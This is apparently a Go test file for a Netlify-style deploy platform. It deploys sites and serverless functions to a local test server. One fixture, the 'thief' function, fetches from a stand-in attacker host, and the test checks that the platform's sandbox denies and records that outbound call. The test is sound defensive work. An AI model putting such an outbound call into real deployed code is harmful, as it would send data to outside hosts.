package server

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"log/slog"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rogpeppe/go-internal/txtar"

	"github.com/weir-run/weir/internal/deploys"
	"github.com/weir-run/weir/internal/jobs"
	"github.com/weir-run/weir/internal/record"
	"github.com/weir-run/weir/internal/weir"
)

// platform is a server of its own, which serves until the test is over.
type platform struct {
	*Server
	t       *testing.T
	records *changes
	end     func()
}

// changes keeps what is recorded.
type changes struct {
	record.Memory
	mu  sync.Mutex
	all []record.Change
}

func (c *changes) Changed(ch record.Change) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.all = append(c.all, ch)
}

var owner = deploys.Author{Name: "owner", From: "127.0.0.1", CanApprove: true}

func newPlatform(t *testing.T, change ...func(*ServeOptions)) *platform {
	t.Helper()
	root, err := os.MkdirTemp("", "weir-serve-") // t.TempDir is its owner's alone
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	if err := os.Chmod(root, 0o755); err != nil {
		t.Fatal(err)
	}
	p := &platform{t: t, records: &changes{}}
	o := ServeOptions{StateDir: root, Listen: "127.0.0.1:0", APIListen: "127.0.0.1:0", Recorder: p.records, Logger: slog.New(slog.NewTextHandler(t.Output(), nil))}
	for _, c := range change {
		c(&o)
	}
	if p.Server, err = NewServer(t.Context(), o); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	var serving sync.WaitGroup
	serving.Go(func() {
		if err := p.Serve(ctx); err != nil {
			t.Error(err)
		}
	})
	p.end = sync.OnceFunc(func() {
		cancel()
		serving.Wait()
		p.Close()
	})
	t.Cleanup(p.end)
	return p
}

// site makes a site and waits until the server knows it.
func (p *platform) site(name string) weir.Site {
	p.t.Helper()
	site, err := p.deploys.CreateSite(p.t.Context(), owner, name)
	if err != nil {
		p.t.Fatal(err)
	}
	waitFor(p.t, func() bool { _, known := p.hosts.site(site.ID); return known })
	return site
}

// content is what a deploy consists of.
type content struct {
	files     map[string]string
	functions map[string]string // source by name, or the files of an archive as txtar
}

// zipped makes the archive of a function as Netlify's clients do.
func zipped(t *testing.T, name, source string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	files := txtar.Parse([]byte(source)).Files
	if files == nil {
		files = []txtar.File{{Name: name + ".js", Data: []byte(source)}}
	}
	for _, f := range files {
		w, err := z.Create(f.Name)
		if err == nil {
			_, err = w.Write(f.Data)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// deploy deploys content to a site and waits until it is ready.
func (p *platform) deploy(site weir.Site, by deploys.Author, c content, o deploys.BeginOptions) weir.Deploy {
	p.t.Helper()
	ctx := p.t.Context()
	d, err := p.deploys.Begin(ctx, by, site.ID, o)
	if err != nil {
		p.t.Fatal(err)
	}
	decl := deploys.Declaration{Files: map[string]string{}, Functions: map[string]deploys.DeclaredFunction{}}
	for name, text := range c.files {
		sum := sha1.Sum([]byte(text))
		decl.Files[name] = hex.EncodeToString(sum[:])
	}
	archives := map[string][]byte{}
	for name, source := range c.functions {
		archives[name] = zipped(p.t, name, source)
		sum := sha256.Sum256(archives[name])
		decl.Functions[name] = deploys.DeclaredFunction{SHA256: hex.EncodeToString(sum[:])}
	}
	missing, _, err := p.deploys.Declare(ctx, by, d.ID, decl)
	if err != nil {
		p.t.Fatal(err)
	}
	for name, text := range c.files {
		if slices.Contains(missing.Files, decl.Files[name]) {
			if err := p.deploys.UploadFile(ctx, by, d.ID, name, strings.NewReader(text)); err != nil {
				p.t.Fatal(err)
			}
		}
	}
	for name, archive := range archives {
		if slices.Contains(missing.Functions, decl.Functions[name].SHA256) {
			if err := p.deploys.UploadFunction(ctx, by, d.ID, name, deploys.FunctionUpload{Runtime: "js"}, bytes.NewReader(archive)); err != nil {
				p.t.Fatal(err)
			}
		}
	}
	for d.State != weir.DeployReady {
		if d, err = p.deploys.Deploy(ctx, d.ID); err != nil || d.State == weir.DeployFailed {
			p.t.Fatal(d.Error, err)
		}
		time.Sleep(5 * time.Millisecond) // as a client polls
	}
	return d
}

// shows waits until the production URL of a site is a deploy's.
func (p *platform) shows(host string, d weir.Deploy) {
	p.t.Helper()
	waitFor(p.t, func() bool {
		site, _, err := p.hosts.find(host)
		if err != nil {
			return false
		}
		shown, err := p.published.of(p.t.Context(), site)
		return err == nil && shown.ID == d.ID
	})
}

// get asks for a path of a host.
func (p *platform) get(host, path string) (int, string) {
	p.t.Helper()
	r, err := http.NewRequest("GET", p.Addr()+path, nil)
	if err != nil {
		p.t.Fatal(err)
	}
	r.Host = host
	res, err := http.DefaultClient.Do(r)
	if err != nil {
		p.t.Error(err)
		return 0, ""
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		p.t.Error(err)
	}
	return res.StatusCode, string(body)
}

const thief = `exports.handler = async () => {
	try { return { statusCode: 200, body: await (await fetch("http://collect.evil.test/")).text() } }
	catch (e) { return { statusCode: 200, body: "denied " + (e.cause || e).code } }
}`

func TestDeployIsServedBehindWalls(t *testing.T) {
	p := newPlatform(t)
	site := p.site("shop")
	if status, body := p.get("shop.localhost", "/"); status != 404 || !strings.Contains(body, "nothing is published") {
		t.Errorf("before a deploy: %d %s", status, body)
	}
	d := p.deploy(site, owner, content{functions: map[string]string{"pay": thief}}, deploys.BeginOptions{})
	p.shows("shop.localhost", d)
	for _, host := range []string{"shop.localhost", d.ID + "--shop.localhost"} {
		if status, body := p.get(host, "/.netlify/functions/pay"); status != 200 || body != "denied EWEIR" {
			t.Errorf("%s: %d %s", host, status, body)
		}
	}
	denials := p.records.Denials()
	if len(denials) == 0 || denials[0].Site != site.ID || denials[0].Deploy != d.ID {
		t.Errorf("the denial isn't on record with the site's and the deploy's names: %+v", denials)
	}
	if status, _ := p.get("other.localhost", "/"); status != 404 {
		t.Errorf("another host: %d", status)
	}
}

// TestARunForASiteNotHeardOf: a server that has not heard of a site yet, or not of its deploy being published, runs
// what another one has accepted for it. It would be a dead letter else.
func TestARunForASiteNotHeardOf(t *testing.T) {
	p := newPlatform(t)
	site := p.site("shop")
	d := p.deploy(site, owner, content{functions: map[string]string{"f": `exports.handler = async () => ({ statusCode: 200 })`}}, deploys.BeginOptions{})
	p.hosts.set(site.ID, weir.Site{})
	out, err := runner{p.Server}.Run(t.Context(), jobs.Job{ID: "01JFQ8Z3V9T5N2K7C4M6B1XADE", Site: site.ID, Deploy: d.ID, Function: "f", Event: []byte("{}")})
	if err != nil || out.Outcome != jobs.OK {
		t.Errorf("%+v %v", out, err)
	}
}
